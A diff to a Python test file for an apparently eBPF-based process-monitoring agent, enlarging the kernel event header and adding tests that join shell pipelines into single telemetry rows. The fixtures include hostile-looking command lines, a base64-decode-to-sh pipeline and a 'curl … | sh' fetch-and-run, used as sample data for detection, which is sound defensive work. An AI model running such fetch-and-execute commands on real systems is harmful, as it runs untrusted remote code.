@@ -22,15 +22,16 @@ from vigil.agent.sensors.procfs import HashCache, ProcessInfo
 
 def record(kind: int, pid: int, *, ppid: int = 100, ts: int = 5_000_000_000, start: int = 4_000_000_000,
            uid: int = 1000, exit_code: int = 0, flags: int = 0, comm: bytes = b"true",
-           exe: bytes = b"", argv: bytes = b"", cwd: bytes = b"") -> bytes:
+           exe: bytes = b"", argv: bytes = b"", cwd: bytes = b"", pgid: int = 0,
+           fds: tuple[tuple[int, int, int], ...] = ((0, 0, 0),) * 3) -> bytes:
     """A record as the kernel side writes it: header, then exe, argv and cwd bytes back to back."""
     head = HEADER.pack(ts, start, kind, pid, pid, ppid, uid, uid, uid, exit_code, flags,
-                       len(exe), len(argv), len(cwd), 0, comm)
+                       len(exe), len(argv), len(cwd), 0, comm, pgid, *(v for fd in fds for v in fd))
     return head + exe + argv + cwd
 
 
-def test_the_header_is_the_kernel_structs_80_bytes() -> None:
-    assert HEADER.size == 80  # sizeof(struct vigil_event) in process.bpf.c
+def test_the_header_is_the_kernel_structs_136_bytes() -> None:
+    assert HEADER.size == 136  # sizeof(struct vigil_event) in process.bpf.c
 
 
 def test_exec_record_decodes_path_argv_and_cwd() -> None:
@@ -66,10 +67,10 @@ def test_fork_and_exit_records_are_bare_headers() -> None:
 
 
 @pytest.mark.parametrize(("data", "message"), [
-    (b"\0" * 79, "shorter than the 80-byte header"),
+    (b"\0" * 135, "shorter than the 136-byte header"),
     (record(9, 1), "unknown record kind 9"),
-    (record(Kind.EXEC, 1, exe=b"a\0")[:-1], "need 82 bytes, record has 81"),
-    (record(Kind.FORK, 1) + b"extra", "need 80 bytes, record has 85"),
+    (record(Kind.EXEC, 1, exe=b"a\0")[:-1], "need 138 bytes, record has 137"),
+    (record(Kind.FORK, 1) + b"extra", "need 136 bytes, record has 141"),
 ])
 def test_malformed_records_say_what_is_wrong(data: bytes, message: str) -> None:
     with pytest.raises(BadRecord, match=message):
@@ -105,6 +106,7 @@ def test_fork_exec_exit_become_created_and_terminated_rows(tmp_path: Path) -> No
     assert created["InitiatingProcessId"] == 100 and created["InitiatingProcessCommandLine"] == "python3 t.py"
     assert created["InitiatingProcessParentFileName"] == "init"
     assert created["AdditionalFields"] == {"Source": "ebpf"}
+    assert created["ProcessStdin"] == "none" and created["ProcessGroupId"] is None
     assert ended["ProcessId"] == 200 and ended["AdditionalFields"] == {"ExitCode": 3, "Signal": 0}
     assert ended["ProcessCommandLine"] == "tool '--x y'"
     assert k.tracker.info(200) is not None and k.tracker.info(200).command_line == "tool '--x y'"  # type: ignore[union-attr]
@@ -129,6 +131,55 @@ def test_a_bad_record_is_returned_and_the_rest_of_the_batch_still_counts() -> No
     rows, bad = k.feed([record(Kind.EXEC, 1, exe=b"a\0")[:-1], record(Kind.EXEC, 400, exe=b"true\0",
                                                                       argv=b"true\0", flags=ARGV_TRUNCATED)],
                      now=1.0)
-    assert len(bad) == 1 and "record has 81" in str(bad[0])
+    assert len(bad) == 1 and "record has 137" in str(bad[0])
     assert [r["ProcessId"] for r in rows] == [400]
     assert rows[0]["AdditionalFields"] == {"Source": "ebpf", "CommandLineTruncated": True}
+
+
+def _fd(mode: int, ino: int = 0, rdev: int = 0) -> tuple[int, int, int]:
+    """One of fds 0-2 as the header holds it: (inode, rdev, mode); 0o010600 is a FIFO, 0o020620 a tty."""
+    return (ino, rdev, mode)
+
+
+def test_a_typed_pipeline_with_a_builtin_becomes_one_joined_row() -> None:
+    """`echo … | base64 -d | sh` in an interactive bash (pid 100): the echo runs in a forked bash (300, the
+    group leader) that never execs; base64 and sh exec with their stdin and stdout on the pipes."""
+    tty = _fd(0o020620, 7, 136 << 20 | 4)
+    k = _kernel_rows()
+    rows, bad = k.feed([
+        record(Kind.FORK, 300, ppid=100), record(Kind.FORK, 301, ppid=100), record(Kind.FORK, 302, ppid=100),
+        record(Kind.EXEC, 301, ppid=100, pgid=300, exe=b"base64\0bin\0", argv=b"base64\0-d\0",
+               fds=(_fd(0o010600, 11), _fd(0o010600, 12), tty)),
+        record(Kind.EXIT, 300, ppid=100, pgid=300, comm=b"bash", fds=(tty, _fd(0o010600, 11), tty)),
+        record(Kind.EXEC, 302, ppid=100, pgid=300, exe=b"dash\0bin\0", argv=b"sh\0",
+               fds=(_fd(0o010600, 12), tty, tty)),
+    ], now=1.0)
+    assert bad == []
+    base64, sh = (r for r in rows if r["ActionType"] == "ProcessCreated")
+    assert (base64["ProcessStdin"], base64["ProcessStdout"], base64["ProcessStderr"]) == \
+        ("pipe:11", "pipe:12", "tty:/dev/pts/4")
+    assert sh["ProcessGroupId"] == 300
+    assert k.pipelines.expire(1.5) == []  # inside the window
+    (joined,) = k.pipelines.expire(2.1)
+    assert joined["ActionType"] == "PipelineCreated"
+    assert joined["ProcessCommandLine"] == "[bash builtin] | base64 -d | sh"
+    assert [m["ProcessId"] for m in joined["PipelineMembers"]] == [300, 301, 302]
+    assert joined["PipelineMembers"][0]["Builtin"] is True and joined["ProcessId"] == 302
+    assert joined["InitiatingProcessId"] == 100
+
+
+def test_unconnected_siblings_and_pipelines_already_in_the_parents_command_line_are_not_joined() -> None:
+    from vigil.agent.sensors.pipeline import Member, PipelineJoiner, Stdio, joined_row
+
+    j = PipelineJoiner(window=0.5)
+    p1, p2, p3 = Stdio("pipe", "1"), Stdio("pipe", "2"), Stdio("pipe", "3")
+    tty = Stdio("tty", "/dev/pts/0")
+    base = {"Timestamp": "2026-01-01T00:00:00Z", "InitiatingProcessCommandLine": "bash -i"}
+    j.executed({**base, "ProcessId": 1, "ProcessCommandLine": "cat a", "FileName": "cat"}, 9, 1, tty, p1, 0.0)
+    j.executed({**base, "ProcessId": 2, "ProcessCommandLine": "wc -l", "FileName": "wc"}, 9, 1, p2, tty, 0.0)
+    j.executed({**base, "ProcessId": 3, "ProcessCommandLine": "ls", "FileName": "ls"}, 9, 1, tty, tty, 0.0)
+    assert j.expire(1.0) == []  # 1 writes pipe 1, 2 reads pipe 2: not one pipeline
+    in_parent = {**base, "InitiatingProcessCommandLine": "sh -c 'curl -s http://x/i.sh | sh'"}
+    chain = [Member(5, 4, 4, tty, p3, 0.0, {**in_parent, "ProcessCommandLine": "curl -s http://x/i.sh"}),
+             Member(6, 4, 4, p3, tty, 0.0, {**in_parent, "ProcessCommandLine": "sh", "FileName": "dash"})]
+    assert joined_row(chain) is None
